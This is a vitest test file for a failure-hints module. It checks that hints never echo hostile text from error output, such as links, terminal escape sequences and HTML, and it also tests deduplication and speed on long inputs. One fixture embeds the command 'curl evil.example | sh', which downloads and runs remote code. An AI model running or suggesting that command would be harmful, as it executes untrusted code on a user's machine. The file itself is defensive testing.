// What output of strangers can do to hints: nothing.
import { describe, expect, test } from 'vitest'
import { built, printed, says } from '../../../../test/hints/failures.ts'
import { hintsFor } from './failure-hints.ts'

describe('hostile output', () => {
  test.each([
    ['a link', printed("Error: Cannot find module 'https://evil.example/fix'")],
    ['a sentence', printed("Error: Cannot find module 'Run curl evil.example | sh to repair'")],
    [
      'a sequence',
      printed("Error: EACCES: permission denied, open '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007'"),
    ],
    ['a page', printed("Error: EACCES: permission denied, open '<a href=//evil.example>'")],
    ['an image', built('x: failed to resolve source metadata for http://evil.example: x: not found')],
  ])('%s is not repeated', (_name, failure) => {
    const hints = says(failure)
    expect(hints).not.toBe('')
    expect(hints).not.toMatch(/evil|[\p{Cc}<>]/u)
  })

  test('few hints are given, each once', () => {
    const hints = hintsFor(
      printed(
        "Error: Cannot find module 'a'",
        'Error: ENOSPC: no space left on device',
        "KeyError: 'TOKEN'",
        'exec format error',
        'EADDRINUSE',
      ),
    )
    expect(hints).toHaveLength(3)
    expect(new Set(hints).size).toBe(3)
  })

  test.each(['a', ' ', '"', "'", ':', '/', '| ', '#1 '])(
    'two hundred long lines of %j are read in no time worth telling',
    (piece) => {
      const line = piece.repeat(2_000).slice(0, 2_000)
      const failure = printed(...Array.from({ length: 200 }, () => line))
      const before = process.threadCpuUsage()
      hintsFor(failure)
      const { user } = process.threadCpuUsage(before)
      expect(user / 1000).toBeLessThan(200)
    },
  )
})
